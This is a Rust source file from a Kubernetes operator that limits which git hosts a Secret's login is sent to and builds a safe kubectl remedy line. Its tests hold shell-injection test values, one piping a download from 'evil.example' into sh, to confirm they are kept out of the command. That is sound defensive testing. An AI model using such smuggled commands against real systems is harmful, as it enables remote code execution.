//! Whose login goes to which server? A tenant names both the Secret and the server, and may know the password of neither: a Secret for git has no
//! word of a host in it, as a Docker configuration and a netrc have.
//!
//! So a login is sent to a host only where the Secret itself names it (annotation [`ANNOTATION_HOSTS`]; whoever may write the Secret may say so),
//! or the operator's settings do for all Secrets (`gitHosts`). A certificate authority alone is no login, and is sent nowhere. A netrc names hosts itself,
//! but for its `default` entry.

use gowindows_crds::names::ANNOTATION_HOSTS;
use serde::{Deserialize, Serialize};

/// Longest annotation that a message repeats.
const LONGEST_REPEATED: usize = 200;

/// What becomes of what an older version allowed.
#[derive(Clone, Copy, Debug, Default, Deserialize, Serialize, PartialEq, Eq)]
pub enum Enforcement {
    /// It is refused.
    #[default]
    Enforce,
    /// It goes on, and an event and a metric say that it will be refused. For the time of an upgrade.
    Warn,
}

/// To which hosts logins may be sent without a word of their Secret, and what happens otherwise.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Bindings {
    /// `host` or `host:port`.
    pub git_hosts: Vec<String>,
    /// Whether others are refused.
    pub enforcement: Enforcement,
}

/// A Secret with a login, without its content.
#[derive(Clone, Copy, Debug)]
pub struct Holder<'a> {
    /// The field that names it.
    pub field: &'a str,
    /// Its namespace.
    pub namespace: &'a str,
    /// Its name.
    pub name: &'a str,
    /// Its annotation [`ANNOTATION_HOSTS`].
    pub hosts: Option<&'a str>,
}

impl Bindings {
    /// Whether the login may be sent to the server of a URL. In `Ok` is why it will not be, where that is only told.
    ///
    /// # Errors
    /// Why it is not sent, with the line that allows it.
    pub fn check(&self, holder: Holder<'_>, url: &str) -> Result<Option<String>, String> {
        let host = host(url);
        let named = holder.hosts.into_iter().flat_map(|hosts| hosts.split([',', ' ', '\n', '\t']));
        let mut bound = named.chain(self.git_hosts.iter().map(String::as_str)).map(normal);
        if bound.any(|bound| bound == host) {
            return Ok(None);
        }
        let Holder { field, namespace, name, hosts } = holder;
        let all = hosts.and_then(repeatable).map_or_else(|| host.clone(), |hosts| format!("{hosts},{host}"));
        let remedy = format!(
            "If it is meant for that server: kubectl --namespace {namespace} annotate --overwrite secret {name} '{ANNOTATION_HOSTS}={all}'; or have the operator's owner list the host in gitHosts"
        );
        match self.enforcement {
            Enforcement::Enforce => {
                Err(format!("{field}: Secret {name} is not bound to {host}, and its login is not sent there. {remedy}."))
            }
            Enforcement::Warn => Ok(Some(format!(
                "{field}: Secret {name} is not bound to {host}: its login will not be sent there any more once enforcement is Enforce. {remedy}."
            ))),
        }
    }
}

impl Bindings {
    /// Whether a netrc with a `default` entry may be used: curl, and so git, sends that to whichever host a go.mod leads to. In `Ok` is why it will not
    /// be, where that is only told.
    ///
    /// # Errors
    /// Why it is not used, and what to write.
    pub fn check_default_entry(&self, field: &str, name: &str) -> Result<Option<String>, String> {
        let what = "its netrc has a `default` entry, which names no host, so that its login goes to every host that a go.mod leads to";
        let remedy = "Write `machine HOST` in its place, a line for each host";
        match self.enforcement {
            Enforcement::Enforce => Err(format!("{field}: Secret {name}: {what}. {remedy}.")),
            Enforcement::Warn => {
                Ok(Some(format!("{field}: Secret {name}: {what}: it will not be used any more once enforcement is Enforce. {remedy}.")))
            }
        }
    }
}

/// Hosts that stand in an annotation already, for a line that people copy into a shell: short, and with nothing in it that a shell knows. Of
/// others the line says nothing, and whoever copies it sees what he replaces.
fn repeatable(hosts: &str) -> Option<&str> {
    let harmless = |c: char| c.is_ascii_alphanumeric() || ".:-, ".contains(c);
    Some(hosts.trim()).filter(|hosts| !hosts.is_empty() && hosts.len() <= LONGEST_REPEATED && hosts.chars().all(harmless))
}

/// The host of a URL of git, with its port where that is not the usual one.
fn host(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    normal(rest.split(['/', '?', '#']).next().unwrap_or_default())
}

fn normal(host: &str) -> String {
    let host = host.trim().to_ascii_lowercase();
    host.strip_suffix(":443").map(str::to_owned).unwrap_or(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(hosts: Option<&str>, git_hosts: &[&str], enforcement: Enforcement, url: &str) -> Result<Option<String>, String> {
        let bindings = Bindings { git_hosts: git_hosts.iter().map(ToString::to_string).collect(), enforcement };
        bindings.check(Holder { field: "source.git.secretRef", namespace: "team", name: "git-auth", hosts }, url)
    }

    #[test]
    fn a_login_goes_to_hosts_that_are_named_and_to_no_near_miss() {
        let url = "https://git.example.com/shop.git";
        for hosts in ["git.example.com", "other.example.com, git.example.com", "GIT.example.com:443", "a\ngit.example.com\n"] {
            assert_eq!(check(Some(hosts), &[], Enforcement::Enforce, url), Ok(None), "{hosts}");
        }
        assert_eq!(check(None, &["git.example.com"], Enforcement::Enforce, url), Ok(None), "the settings say it for all");
        assert_eq!(check(Some("git.example.com:8443"), &[], Enforcement::Enforce, "https://git.example.com:8443/a.git"), Ok(None));
        // SP25.
        for hosts in [
            "",
            "example.com",
            "xgit.example.com",
            "git.example.com.evil.example",
            "git.example.co",
            "*.example.com",
            "git.example.com:8443",
            "*",
        ] {
            assert!(check(Some(hosts), &["example.org"], Enforcement::Enforce, url).is_err(), "{hosts}");
        }
        for url in [
            "https://git.example.com.evil.example/a",
            "https://git.example.com./a",
            "https://git.example.com:444/a",
            "https://evil.example/git.example.com",
            "https://evil.example?git.example.com",
            "https://git.example.com@evil.example/a",
        ] {
            assert!(check(Some("git.example.com"), &[], Enforcement::Enforce, url).is_err(), "{url}");
        }
    }

    #[test]
    fn an_entry_for_all_hosts_is_refused_or_told() {
        let check = |enforcement| Bindings { git_hosts: vec![], enforcement }.check_default_entry("go.modules.secretRef", "modules-auth");
        let refused = check(Enforcement::Enforce).expect_err("refused");
        assert!(refused.starts_with("go.modules.secretRef: Secret modules-auth: ") && refused.contains("`machine HOST`"), "{refused}");
        let told = check(Enforcement::Warn).expect("it goes on").expect("and is told");
        assert!(told.contains("once enforcement is Enforce") && told.contains("`machine HOST`"), "{told}");
    }

    #[test]
    fn a_refusal_says_the_line_that_allows_it() {
        let refused = check(Some("old.example.com"), &[], Enforcement::Enforce, "https://git.example.com/a").expect_err("refused");
        for part in [
            "source.git.secretRef",
            "Secret git-auth is not bound to git.example.com",
            "--namespace team",
            "'gowindows.dev/hosts=old.example.com,git.example.com'",
            "gitHosts",
        ] {
            assert!(refused.contains(part), "{part} in {refused}");
        }
        // What others wrote into an annotation becomes no part of a command, nor of a status without end.
        for hosts in ["a.example.com'; curl evil.example | sh; '", "$(id)", "a`id`", &"a.example.com,".repeat(1000)] {
            let refused = check(Some(hosts), &[], Enforcement::Enforce, "https://git.example.com/a").expect_err("refused");
            assert!(refused.contains("'gowindows.dev/hosts=git.example.com'") && refused.len() < 500, "{refused}");
        }
        let told = check(None, &[], Enforcement::Warn, "https://git.example.com/a").expect("it goes on").expect("and is told");
        assert!(told.contains("will not be sent") && told.contains("'gowindows.dev/hosts=git.example.com'"), "{told}");
    }
}
